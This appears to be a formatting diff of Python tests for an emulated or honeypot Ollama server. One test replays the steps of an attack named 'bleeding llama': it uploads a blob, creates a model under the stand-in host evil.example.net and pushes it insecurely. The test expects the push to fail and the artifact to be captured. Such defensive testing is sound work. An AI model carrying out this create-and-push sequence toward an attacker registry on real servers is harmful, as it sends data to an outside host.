@@ -69,7 +69,9 @@ async def test_a_model_is_pulled_and_then_there(ollama: Machine) -> None:
     assert (statuses[0], statuses[-3:]) == ("pulling manifest", ["verifying sha256 digest", "writing manifest", "success"])
     assert "qwen2.5:0.5b" in [model["name"] for model in (await ollama.ask("GET", "/api/tags")).json["models"]]
     assert (await ollama.ask("DELETE", "/api/delete", _json({"name": "qwen2.5:0.5b"}))).status == 200
-    assert (await ollama.ask("POST", "/api/show", _json({"name": "qwen2.5:0.5b"}))).json == {"error": "model 'qwen2.5:0.5b' not found"}
+    assert (await ollama.ask("POST", "/api/show", _json({"name": "qwen2.5:0.5b"}))).json == {
+        "error": "model 'qwen2.5:0.5b' not found"
+    }
 
 
 async def test_the_steps_of_bleeding_llama_up_to_the_push_that_never_arrives(ollama: Machine) -> None:
@@ -81,7 +83,9 @@ async def test_the_steps_of_bleeding_llama_up_to_the_push_that_never_arrives(oll
     assert ollama.read(f"/usr/share/ollama/.ollama/models/blobs/sha256-{digest}") == data
     assert any(isinstance(event, ArtifactCaptured) and event.sha256 == digest for event in ollama.events)
     name = "evil.example.net/a/b:latest"
-    made = await ollama.ask("POST", "/api/create", _json({"model": name, "files": {"a.gguf": f"sha256:{digest}"}, "quantize": "q4_0"}))
+    made = await ollama.ask(
+        "POST", "/api/create", _json({"model": name, "files": {"a.gguf": f"sha256:{digest}"}, "quantize": "q4_0"})
+    )
     assert made.lines[-1] == {"status": "success"}
     pushed = await ollama.ask("POST", "/api/push", _json({"model": name, "insecure": True}))
     assert pushed.lines[-1] == {"error": 'Head "https://evil.example.net/v2/": dial tcp evil.example.net:443: i/o timeout'}
